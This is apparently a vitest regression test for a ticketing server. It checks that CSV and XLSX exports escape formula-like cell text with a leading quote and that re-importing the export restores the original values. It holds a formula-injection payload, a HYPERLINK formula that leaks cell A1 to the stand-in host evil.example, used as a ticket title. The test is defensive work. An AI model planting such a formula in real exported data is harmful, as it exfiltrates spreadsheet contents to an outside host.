// Issue 16 item 10: exports wrote cells beginning with `=`, `+`, `-`, `@` verbatim, so text an ordinary user
// controls (a ticket title) ran as a formula in the spreadsheet of the administrator who opened the export.
// Now csv and xlsx cells of such text start with a single quote, and importing our own export
// (render-to-json) gives back exactly the original values (docs/security.md).
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_ORG_ID } from '../../server/src/orgs/org-ids';
import { startTestServer, type Client, type TestServer } from './harness';
import { ASSETS, adminClient, call, userClient, type AssetBody } from './asset-helpers';

const TICKETS = '/api/v1/tickets/tickets/';
const GROUPS = '/api/v1/users/groups/';
const ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

/** Texts that spreadsheets read as formulas, and the quoted ones that must come back unchanged. */
const TRICKY = [
  '=1+2',
  '+SUM(A1:A9)',
  '-2+3',
  '@cmd',
  "'=already quoted",
  "''+twice",
  "'plain quote",
  'plain',
  'a=b',
];

let server: TestServer;
let admin: Client;
let member: Client;

async function download(url: string): Promise<Buffer> {
  const response = await admin.request(url, { headers: { 'accept-language': 'en' } });
  expect(response.status).toBe(200);
  return Buffer.from(await response.arrayBuffer());
}

/** The cell under `column` (a header title) in every data row of a csv export. */
function csvColumn(csv: Buffer, column: string): string[] {
  const [header = '', ...rows] = csv
    .toString('utf8')
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');
  const index = header.split(',').indexOf(column);
  expect(index).toBeGreaterThanOrEqual(0);
  // The tested values hold no comma or quote pair that would need a csv parser.
  return rows.map((row) => row.split(',')[index] ?? '');
}

async function xlsxColumn(bytes: Buffer, column: string): Promise<ExcelJS.CellValue[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
  const header = sheet.getRow(1).values as unknown[];
  const index = header.indexOf(column);
  expect(index).toBeGreaterThan(0);
  const values: ExcelJS.CellValue[] = [];
  for (let row = 2; row <= sheet.rowCount; row += 1) values.push(sheet.getRow(row).getCell(index).value);
  return values;
}

beforeAll(async () => {
  server = await startTestServer();
  admin = await adminClient(server);
  member = await userClient(server, 'member', [{ org: DEFAULT_ORG_ID, role: 'OrgUser' }]);
});

afterAll(async () => {
  await server.close();
});

describe('formula-like text in exports', () => {
  it("an ordinary user's ticket title is exported as text, in csv and in xlsx", async () => {
    const asset = await call<AssetBody>(admin, 'POST', ASSETS, {
      body: { hostname: 'db01', ip: '10.0.0.1', platform: 'Linux' },
      org: DEFAULT_ORG_ID,
    });
    const opened = await call(member, 'POST', `${TICKETS}open/?type=apply_asset`, {
      body: {
        title: ATTACK,
        type: 'apply_asset',
        org_id: DEFAULT_ORG_ID,
        meta: {
          apply_assets: [asset.body.id],
          apply_actions: ['connect'],
          apply_date_start: new Date().toISOString(),
          apply_date_expired: new Date(Date.now() + 86_400_000).toISOString(),
        },
      },
    });
    expect(opened.status).toBe(201);
    // The super admin (the flow's assignee) exports the tickets.
    const csv = (await download(`${TICKETS}?format=csv`)).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const titles = await xlsxColumn(await download(`${TICKETS}?format=xlsx`), '*Title');
    // A text cell holding the quote: never a formula cell.
    expect(titles).toEqual([`'${ATTACK}`]);
  });

  it('quotes every formula-like cell and gives the original values back on import', async () => {
    const made = await call(admin, 'POST', GROUPS, {
      body: TRICKY.map((comment, i) => ({ name: `formula-${i}`, comment })),
      org: DEFAULT_ORG_ID,
    });
    expect(made.status).toBe(201);
    const csv = await download(`${GROUPS}?format=csv&search=formula-&order=name`);
    expect(csvColumn(csv, 'Comment')).toEqual([
      "'=1+2",
      "'+SUM(A1:A9)",
      "'-2+3",
      "'@cmd",
      "''=already quoted",
      "'''+twice",
      "'plain quote",
      'plain',
      'a=b',
    ]);
    const xlsx = await download(`${GROUPS}?format=xlsx&search=formula-&order=name`);
    expect((await xlsxColumn(xlsx, 'Comment'))[0]).toBe("'=1+2");
    for (const [bytes, type] of [
      [csv, 'text/csv'],
      [xlsx, 'text/xlsx'],
    ] as const) {
      const response = await admin.request(`${GROUPS}render-to-json/`, {
        method: 'POST',
        headers: { 'content-type': type, 'accept-language': 'en', 'x-jms-org': DEFAULT_ORG_ID },
        body: new Uint8Array(bytes),
        csrf: true,
      });
      expect(response.status).toBe(200);
      const preview = (await response.json()) as { data: Array<{ comment?: string }> };
      expect(preview.data.map((row) => row.comment ?? '')).toEqual(TRICKY);
    }
  });
});
